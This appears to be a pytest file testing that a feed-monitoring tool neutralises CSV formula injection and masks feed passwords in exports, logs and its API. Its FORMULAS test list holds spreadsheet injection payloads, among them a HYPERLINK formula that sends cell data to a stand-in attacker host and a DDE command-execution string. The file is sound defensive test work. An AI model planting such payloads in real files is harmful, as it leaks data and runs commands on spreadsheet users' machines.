"""Feed text cannot turn into spreadsheet formulas, and feed passwords never leave the store.

Every CSV koll writes of stored text (`koll export --format csv`, the dashboard's download) gets
OWASP's treatment for cells starting with = + - @, a tab or a carriage return; JSON lines and
Parquet keep the stored text exactly. `koll sentiment` guards only the cells it adds: the rest is
the user's own file, passed through as read. Feed URLs with user:password@ are shown masked.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from xml.sax.saxutils import escape

import pyarrow.parquet as pq
import pytest

from ingest.run import ingest_once
from koll.cli import main
from koll.config import load_settings
from koll.store.export import spreadsheet_safe
from tests.feedserver import FeedServer, rss

# The cells the issue reproduced, each in a title, a text and an author.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    "\tTAB=1+1",
    "\r=1+1",
]
# Feed text is stored trimmed, so a tab or CR at the start never reaches an export.
STORED = [f for f in FORMULAS if f == f.strip()]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_is_prefixed_with_a_quote(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-0.4321", "-0,251", "+3", "-1e5", ",5", "Fjällkraft", "", "a=b", "'=x"]
)
def test_numbers_and_plain_text_stay_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell


def test_non_text_cells_stay_as_they_are():
    assert [spreadsheet_safe(v) for v in (None, -2, -0.5, True)] == [None, -2, -0.5, True]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A workspace whose one feed (behind user:password) carries a formula in every field."""
    server = FeedServer()
    items = [
        {
            "title": escape(f"{f} Fjällkraft"),
            "link": f"https://forum.example.se/{i}",
            "text": escape(f"{f} om Fjällkraft"),
            "author": escape(f),
            "date": "Mon, 02 Nov 2026 08:00:00 +0000",
        }
        for i, f in enumerate(STORED)
    ]
    server.add("/feed.xml", rss(items))
    server.start()
    folder = tmp_path_factory.mktemp("hostile")
    url = server.url("/feed.xml").replace("http://", "http://anna:s3cret@")
    config = folder / "koll.toml"
    config.write_text(
        f'[[brands]]\nname = "Fjällkraft"\n\n[[feeds]]\nurl = "{url}"\nkind = "forum"\n',
        encoding="utf-8",
    )
    settings = load_settings(config, env={})
    assert ingest_once(settings=settings).new_items == len(STORED)
    server.stop()
    return settings


def test_koll_export_csv_neutralises_every_formula(hostile, tmp_path):
    out = tmp_path / "m.csv"
    args = ["export", "mentions", "--config", str(hostile.config_path), "--output", str(out)]
    assert main(args) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert len(rows) == len(STORED)
    for r in rows:
        for field in ("title", "text", "author"):
            assert r[field].startswith("'"), (field, r[field])
        assert not r["feed"].startswith("'")
    assert all(r["score"] and float(r["score"]) == float(r["score"]) for r in rows)  # numbers


def test_jsonl_and_parquet_keep_the_text_raw(hostile, tmp_path):
    js, pq_out = tmp_path / "m.jsonl", tmp_path / "m.parquet"
    base = ["export", "items", "--config", str(hostile.config_path)]
    assert main([*base, "--format", "jsonl", "--output", str(js)]) == 0
    assert main([*base, "--format", "parquet", "--output", str(pq_out)]) == 0
    authors = {json.loads(line)["author"] for line in js.read_text(encoding="utf-8").splitlines()}
    assert authors == set(STORED)
    assert {r["author"] for r in pq.read_table(pq_out).to_pylist()} == authors


def test_koll_sentiment_passes_the_files_own_cells_through(tmp_path, monkeypatch):
    # The same rows plus koll's columns: a formula in the user's file was there before koll (and
    # a post opening with @handle is no formula); prefixing ' changed the user's data.
    monkeypatch.chdir(tmp_path)
    src = tmp_path / "in.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "text", "note"])
        for i, f in enumerate(FORMULAS):
            w.writerow([i, f"Bra tjänst {i}", f])
    out = tmp_path / "out.csv"
    assert main(["sentiment", str(src), "--output", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [r["note"] for r in rows] == FORMULAS
    assert all(r["score"] and not r["score"].startswith("'") for r in rows)


def test_the_dashboard_download_neutralises_every_formula(hostile):
    from dashboard import data
    from dashboard.app import create_app

    client = create_app(hostile).server.test_client()
    try:
        body = client.get("/export/mentions.csv").get_data(as_text=True)
    finally:
        data.store().close()
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"), newline=""), delimiter=";"))
    assert len(rows) == len(STORED)
    for r in rows:
        # The download's Swedish headers (dashboard/export.py): title, text, author.
        assert all(r[f].startswith("'") for f in ("rubrik", "text", "skribent")), r


def test_feed_passwords_are_masked_in_exports_feeds_and_the_api(hostile, tmp_path, capsys):
    cfg = str(hostile.config_path)
    for fmt in ("csv", "jsonl"):
        assert main(["export", "items", "--config", cfg, "--format", fmt]) == 0
        out = capsys.readouterr().out
        assert "s3cret" not in out and "anna:***@127.0.0.1" in out
    pq_out = tmp_path / "i.parquet"
    assert (
        main(["export", "items", "--config", cfg, "--format", "parquet", "--output", str(pq_out)])
        == 0
    )
    assert all("anna:***@" in r["feed"] for r in pq.read_table(pq_out).to_pylist())
    for fmt in ("table", "json"):
        assert main(["feeds", "--config", cfg, "--format", fmt]) == 0
        out = capsys.readouterr().out
        assert "s3cret" not in out and "anna:***@127.0.0.1" in out

    import koll

    with koll.open_workspace(cfg) as ws:
        feeds = set(ws.mentions()["feed"]) | set(ws.items()["feed"])
    assert len(feeds) == 1 and "anna:***@" in feeds.pop()


def test_feed_passwords_are_masked_in_the_ingest_log(tmp_path):
    server = FeedServer()
    server.add("/gone.xml", "", status=404)
    server.start()
    try:
        url = server.url("/gone.xml").replace("http://", "http://anna:s3cret@")
        config = tmp_path / "koll.toml"
        config.write_text(f'[[feeds]]\nurl = "{url}"\n', encoding="utf-8")
        run = subprocess.run(
            [sys.executable, "-m", "koll.cli", "ingest", "--config", str(config)],
            capture_output=True,
            text=True,
            timeout=120,
        )
    finally:
        server.stop()
    assert run.returncode == 1
    assert "anna:***@127.0.0.1" in run.stderr and "s3cret" not in run.stderr
